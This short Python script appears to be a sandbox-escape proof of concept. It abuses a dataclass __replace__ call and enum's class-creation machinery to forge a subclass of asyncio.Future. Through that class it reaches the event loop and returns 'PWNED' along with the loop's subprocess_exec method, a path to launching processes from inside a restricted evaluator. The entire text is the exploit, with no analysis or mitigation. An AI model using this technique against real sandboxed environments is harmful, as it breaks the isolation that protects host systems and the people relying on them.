import asyncio
import dataclasses
import enum

made = []


@dataclasses.dataclass
class Data:
    def __init_subclass__(cls, **named):
        made.append(cls)


class E(Data, enum.Enum):
    pass


try:
    Data.__replace__(E, cls="Mine", bases=(asyncio.Future, E), classdict={}, _simple=True)
except TypeError:
    pass
Mine = made[-1]


async def main():
    future = Mine.__new__(Mine)
    Mine.__init__(future)
    return future._loop


loop = asyncio.run(main())
return "PWNED " + repr(loop.subprocess_exec)
